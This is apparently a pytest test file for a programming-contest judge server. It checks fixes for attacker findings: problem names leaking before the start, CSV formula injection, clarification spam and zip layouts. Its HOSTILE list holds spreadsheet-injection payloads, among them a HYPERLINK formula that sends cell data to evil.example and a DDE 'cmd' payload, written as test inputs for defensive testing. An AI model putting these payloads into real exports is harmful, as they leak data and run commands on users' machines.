"""`judge serve` against the attacker's later findings (issue 47, past tests/test_serve_attacks.py's):
each test is one finding, reproduced on the real app in-process, and what must be true instead. The
layout findings (a long team name at 390 px, small targets) are in tests/test_serve_browser.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from datetime import datetime, timedelta, timezone
from html import unescape

import pytest

pytest.importorskip("starlette")
pytest.importorskip("argon2")

from tcjudge.cli import main  # noqa: E402
from tcjudge.errors import JudgeInputError  # noqa: E402
from tcjudge.serve.accounts import make_accounts, read_teams  # noqa: E402
from tcjudge.serve.grading import materialize, unzip  # noqa: E402

from tcjudge.serve.api import problem_events, static_events  # noqa: E402
from tcjudge.serve.app import build_app  # noqa: E402
from tcjudge.serve.contest import load_contest  # noqa: E402
from tcjudge.serve.state import Serve  # noqa: E402

from .test_serve import ACCEPTED, MINIMAL, Site, csrf_of, login, submit  # noqa: E402
from .test_serve_attacks import api, body, events, feed, submissions_url, zipped  # noqa: E402

NAMED = re.compile("adder", re.IGNORECASE)  # the contest's one problem, by its id or its name


def refusal(page: str) -> str:
    """The words a page's refusal says (its role=alert paragraph)."""
    return unescape(re.search(r'role="alert"[^>]*>([^<]*)<', page).group(1))


def ask(client, text: str, problem: str = "", **extra):
    token = csrf_of(client.get("/clarifications").text)
    return client.post("/clarifications", data={"csrf": token, "text": text, "problem": problem} | extra)


# 1. Before the start, the problem pages were 404, but the submit and clarification forms listed the
# problems, the scoreboard (page and API) had them as columns, and the refusals told a real problem
# id from a made-up one.

def test_before_the_start_no_page_api_or_refusal_names_a_problem_to_a_team(tmp_path):
    site = Site(tmp_path, start=datetime.now(timezone.utc) + timedelta(hours=1))
    red, coach = site.client("red"), site.client("coach")
    for path in ("/problems", "/submit", "/submit?problem=adder", "/clarifications", "/scoreboard", "/submissions"):
        page = red.get(path)
        assert page.status_code == 200 and not NAMED.search(page.text), path
    basic = ("red", site.passwords["red"])
    for path in ("scoreboard", "problems", "event-feed?stream=false"):
        assert not NAMED.search(api(site).get(f"/api/contests/{site.contest.id}/{path}", auth=basic).text), path
    # a real problem and a made-up one are refused in the same words
    real, made_up = submit(red, problem="adder"), submit(red, problem="nope")
    assert (real.status_code, refusal(real.text)) == (made_up.status_code, refusal(made_up.text)) == \
        (400, "the contest has not started")
    real, made_up = (api(site).post(submissions_url(site), json=body(zipped(("adder.py", ACCEPTED)), problem), auth=basic)
                     for problem in ("adder", "nope"))
    assert real.status_code == made_up.status_code == 400 and real.json() == made_up.json()
    real, made_up = ask(red, "Is n > 0?", "adder"), ask(red, "Is n > 0?", "nope")
    assert real.status_code == made_up.status_code == 400 and refusal(real.text) == refusal(made_up.text)
    assert "general" in refusal(real.text)
    assert ask(red, "When do we start?").status_code == 303  # a general question is fine
    assert site.store.rows("SELECT * FROM submissions") == []
    assert [row["problem"] for row in site.store.rows("SELECT problem FROM clarifications")] == [None]
    # the coach sees everything
    for path in ("/problems", "/scoreboard", "/submissions"):
        assert "Adder" in coach.get(path).text, path
    assert "adder" in api(site).get(f"/api/contests/{site.contest.id}/scoreboard",
                                    auth=("coach", site.passwords["coach"])).text
    site.serve.clock.start -= 2 * 3600  # the contest has begun
    for path in ("/submit", "/clarifications", "/scoreboard"):
        assert "A: Adder" in red.get(path).text or "Adder" in red.get(path).text, path
    assert "adder" in api(site).get(f"/api/contests/{site.contest.id}/scoreboard", auth=basic).text


def test_a_teams_scoreboard_digest_before_the_start_holds_no_problem(tmp_path):
    site = Site(tmp_path, start=datetime.now(timezone.utc) + timedelta(hours=1))
    before = site.serve.board_digest(False)
    site.problems["subtract"] = site.problems["adder"]  # another problem, unseen before the start
    site.grader.wake()
    assert site.serve.board_digest(False) == before  # (a digest of the problems' ids could be guessed at)
    assert site.serve.board_digest(True) != site.serve.board_digest(False)


# 2. Team names went into the CSV files raw: a team named =HYPERLINK(...) was a formula in the coach's
# spreadsheet (results.csv, submissions.csv, judge accounts' accounts.csv).

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTabbed", "\rReturned", "'=quoted already", "x\r=HYPERLINK(1)"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def formulas(text: str) -> list[str]:
    """The cells of a CSV that a spreadsheet would take for a formula (a number is a number)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)]


def coach_csvs(tmp_path, names: list[str]) -> dict[str, str]:
    """The coach's results.csv and submissions.csv of a contest whose teams are `names`, one submission each."""
    site = Site(tmp_path)
    made = make_accounts(site.store, [(name, f"team{n}") for n, name in enumerate(names)], coach=False)
    for _, username, _ in made:
        site.store.add_submission(site.store.account(username)["team_id"], "adder", "python3", "a.py", ACCEPTED, False,
                                  60000)
    coach = site.client("coach")
    return {path: coach.get(path).text for path in ("/coach/export.csv", "/coach/submissions.csv")}


def accounts_csv(tmp_path, names: list[str]) -> Path:
    """The accounts.csv `judge accounts --teams` writes for a teams.csv of `names`."""
    contest, teams = tmp_path / "practice.yaml", tmp_path / "teams.csv"
    contest.write_text(MINIMAL)
    with teams.open("w", newline="") as file:
        csv.writer(file).writerows([["team"]] + [[name] for name in names])
    out = tmp_path / "slips"
    assert main(["accounts", str(contest), "--teams", str(teams), "--out", str(out),
                 "--store", str(tmp_path / "accounts.sqlite")]) == 0
    return out / "accounts.csv"


def test_no_csv_cell_is_a_formula_and_the_accounts_csv_reads_back_as_it_was(tmp_path):
    for path, text in coach_csvs(tmp_path, HOSTILE).items():
        assert formulas(text) == [], path
        teams = {row["team"] for row in csv.DictReader(io.StringIO(text))}
        assert "'" + HOSTILE[0] in teams and "''=quoted already" in teams, path
    # (a name with a line break is refused by `judge accounts` since breaker 56d F5: a quote not closed)
    one_line = [name for name in HOSTILE if "\r" not in name]
    written = accounts_csv(tmp_path, one_line)
    assert formulas(written.read_text()) == []
    # (judge accounts --teams accounts.csv: the names as they were, but for the white space a CSV's cell loses)
    assert [name for name, _ in read_teams(written)] == [name.strip() for name in one_line]


# 3. Clarifications had no cap: 200 questions of 4 KB in 1.2 s were all taken (the coach's page
# 919 KiB); a question of zero-width spaces was taken.

def test_a_team_has_at_most_ten_questions_waiting_and_a_question_with_nothing_to_read_is_refused(tmp_path):
    site = Site(tmp_path)
    red, blue, coach = site.client("red"), site.client("blue"), site.client("coach")
    for n in range(10):
        assert ask(red, f"Question {n}?").status_code == 303
    refused = ask(red, "One more?")
    assert refused.status_code == 400 and "10" in refusal(refused.text) and ">One more?</textarea>" in refused.text
    assert ask(blue, "Blue's own?").status_code == 303  # (another team's cap is its own)
    first = site.store.row("SELECT id FROM clarifications WHERE text = 'Question 0?'")["id"]
    assert ask(coach, "Yes.", reply_to=str(first)).status_code == 303
    assert ask(red, "One more?").status_code == 303  # answered: one fewer waits
    for blank in ("\u200b\u200b\u200b", " \u2060\ufeff\u00a0\u3000\n", "\u3164\u2800", "\u0301"):
        for client in (blue, coach):
            refused = ask(client, blank)
            assert refused.status_code == 400 and "nothing to read" in refusal(refused.text), ascii(blank)
    assert site.store.row("SELECT COUNT(*) AS n FROM clarifications")["n"] == 13


# 4. A clarification over 4000 characters was cut to 4000 without a word (the textarea had no maxlength).

def test_a_clarification_over_4000_characters_is_given_back_never_cut(tmp_path):
    site = Site(tmp_path)
    red, coach = site.client("red"), site.client("coach")
    asked = ask(red, "First?")
    form = red.get("/clarifications").text  # counted as typed (judge.js), never cut by a maxlength (a paste was)
    assert re.search(r'<textarea id="clar-text" name="text"[^>]* data-max="4000"', form) and "maxlength" not in form
    long = "Is the input always two numbers? " + "x" * 4000 + " END"
    refused = ask(red, long)
    assert refused.status_code == 400 and "4000" in refusal(refused.text) and f">{long}</textarea>" in refused.text
    question = site.store.row("SELECT id FROM clarifications")["id"]
    assert asked.status_code == 303 and site.store.row("SELECT COUNT(*) AS n FROM clarifications")["n"] == 1
    answer = ask(coach, long, reply_to=str(question))  # an answer too: given back in its own form
    assert answer.status_code == 400 and re.search(rf'id="answer-{question}"[^>]*>{re.escape(long)}</textarea>',
                                                   answer.text)
    lines = "\r\n".join(["y" * 99] * 40)  # 3999 characters as the browser counts them (a line break is one), 4038 sent
    assert ask(red, lines).status_code == 303
    assert site.store.row("SELECT text FROM clarifications ORDER BY id DESC")["text"] == lines.replace("\r\n", "\n")


# 5. A zip of a file `a` and a file `a/b.py` was taken, then its grading failed (IE, "[Errno 17] File
# exists"), and a rejudge could not mend it.

def layouts() -> dict[str, bytes]:
    deep = "/".join(["d"] * 4)
    return {"a file and a folder of one name": zipped(("a", b"x"), ("a/b.py", ACCEPTED)),
            "a folder and a file of one name": zipped(("a/b.py", ACCEPTED), ("a", b"x")),
            "a folder entry and a file of one name": zipped(("a/", b""), ("a", b"x"), ("b.py", ACCEPTED)),
            "one name twice": zipped(("adder.py", b"print(1)\n"), ("adder.py", ACCEPTED)),
            "a name too long for the disk": zipped(("\uff21" * 97 + ".py", ACCEPTED)),
            "folders too deep": zipped(("adder.py", ACCEPTED), (f"{deep}/x.py", b"X = 1\n"))}


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_zip_the_judge_could_not_lay_out_is_refused_at_submit(tmp_path):
    site = Site(tmp_path)
    red = site.client("red")
    for label, archive in layouts().items():
        page = submit(red, source=archive, name="files.zip")
        assert page.status_code == 400 and "zip member" in refusal(page.text), (label, refusal(page.text))
        answer = api(site).post(submissions_url(site), json=body(archive), auth=("red", site.passwords["red"]))
        assert answer.status_code == 400 and "zip member" in answer.json()["message"], label
    assert site.store.rows("SELECT * FROM submissions") == []
    long = submit(red, name="\uff21" * 97 + ".py")  # one file's name, as its bytes on the disk
    assert long.status_code == 400 and "file name" in refusal(long.text)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_every_zip_that_unzip_takes_is_laid_out_on_the_disk(tmp_path):
    taken = {"names that differ in case": zipped(("A.py", b"X = 1\n"), ("a.py", ACCEPTED)),
             "a folder entry, then its file": zipped(("a/", b""), ("a/b.py", ACCEPTED)),
             "folders as deep as the judge reads": zipped(("adder.py", ACCEPTED), ("d/d/d/x.py", b"X = 1\n"))}
    for label, archive in {**layouts(), **taken}.items():
        try:
            files = unzip(archive)
        except JudgeInputError:
            assert label not in taken
            continue
        materialize({"zipped": 1, "source": archive, "filename": "files.zip"}, tmp_path / label)
        laid = {path.relative_to(tmp_path / label).as_posix() for path in (tmp_path / label).rglob("*") if path.is_file()}
        assert laid == set(files), label


# 6. A wrong password emptied the username.

def test_a_wrong_password_keeps_the_username(tmp_path):
    site = Site(tmp_path)
    page = login(site.client(), "red", "not-the-password")
    assert page.status_code == 401
    assert re.search(r'<input id="username" name="username"[^>]* value="red"', page.text)


# The second attacker's findings (breaker 47b).
# 7. A zip of main.py and a file named as the grader takes no name (full-width letters, a leading
# dash, a folder with an accent) was taken at submit, then judged CE.

@pytest.mark.parametrize("name", ["\uff21\uff22\uff23.py", "-h.py", "d\u00efr/h.py"])
def test_a_zip_holding_a_name_the_grader_does_not_take_is_refused_at_submit(tmp_path, name):
    site = Site(tmp_path)
    archive = zipped(("adder.py", ACCEPTED), (name, b"X = 1\n"))
    page = submit(site.client("red"), source=archive, name="files.zip")
    assert page.status_code == 400 and "a file name the judge does not take" in refusal(page.text)
    answer = api(site).post(submissions_url(site), json=body(archive), auth=("red", site.passwords["red"]))
    assert answer.status_code == 400 and "does not take" in answer.json()["message"]
    assert site.store.rows("SELECT * FROM submissions") == []
    assert unzip(zipped(("a+b.py", ACCEPTED), ("_x.py", b"X = 1\n")))  # (what the grader takes, still taken)


# 8. A name with `;` or a tab was written unquoted: read with `;` or a tab as the separator (Excel in
# European locales, LibreOffice), `Lyon;=1+2;x` held a formula.

SEPARATED = ["Lyon;=1+2;x", "Tabby\t=1+2", "a,@SUM(A1)", "b;-2+3;+1", "c;'=quoted"]


def split_formulas(text: str) -> list[tuple[str, str]]:
    """The cells a spreadsheet would take for a formula, splitting on `,`, `;` or a tab, with or
    without honouring quotes."""
    found = []
    for separator in ",;\t":
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        cells += [cell.lstrip('"') for line in text.splitlines() for cell in line.split(separator)]
        found += [(separator, cell) for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))
                  and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)]
    return found


def test_no_csv_cell_is_a_formula_whatever_the_separator_and_accounts_csv_reads_back(tmp_path):
    for path, text in coach_csvs(tmp_path, SEPARATED).items():
        assert split_formulas(text) == [], path
        assert '"Lyon;\'=1+2;x"' in text and '"Tabby\t\'=1+2"' in text, path  # quoted, and neutral inside
    written = accounts_csv(tmp_path, SEPARATED)
    assert split_formulas(written.read_text()) == []
    assert [name for name, _ in read_teams(written)] == SEPARATED


# 9. A rehearsal (`start: now`) announced the problems; restarted with the start moved to the future,
# a team's event feed still held them, names and all.

def test_a_rehearsals_problems_are_not_in_a_teams_event_feed_once_the_start_moves(tmp_path):
    site = Site(tmp_path)  # start: now, as a rehearsal
    assert NAMED.search(feed(site, "red")[1])
    path = tmp_path / "contest.yaml"
    later = (datetime.now(timezone.utc) + timedelta(hours=1)).isoformat()
    path.write_text(path.read_text().replace("start: 'now'", f"start: '{later}'"))
    site.contest = load_contest(path)  # the server restarted on the same store
    site.serve = Serve(site.contest, site.problems, site.store, site.grader, 64 * 1024)
    static_events(site.serve)
    problem_events(site.serve)
    site.app = build_app(site.serve)
    status, text = feed(site, "red")
    assert status == 200 and not NAMED.search(text) and '"problems"' not in text
    assert not NAMED.search(api(site).get(f"/api/contests/{site.contest.id}/problems",
                                          auth=("red", site.passwords["red"])).text)
    latest = {event["id"]: event["data"] for event in events(feed(site, "coach")[1]) if event["type"] == "problems"}
    assert latest == {"adder": None}  # the coach's feed: the rehearsal's problem, then its deletion
    site.serve.clock.start -= 2 * 3600  # the contest has begun: the team's feed has the problem
    latest = {event["id"]: event["data"] for event in events(feed(site, "red")[1]) if event["type"] == "problems"}
    assert latest["adder"]["name"] == "Adder"


# 10. A question of U+1D159 (MUSICAL SYMBOL NULL NOTEHEAD), alone or after U+2800, was taken.

@pytest.mark.parametrize("text", ["\U0001d159", "\u2800\U0001d159", "\U0001d173\U0001d17a", "\u3164 \U0001d159"])
def test_a_question_of_blank_looking_characters_is_refused(tmp_path, text):
    site = Site(tmp_path)
    page = ask(site.client("red"), text)
    assert page.status_code == 400 and site.store.rows("SELECT * FROM clarifications") == []
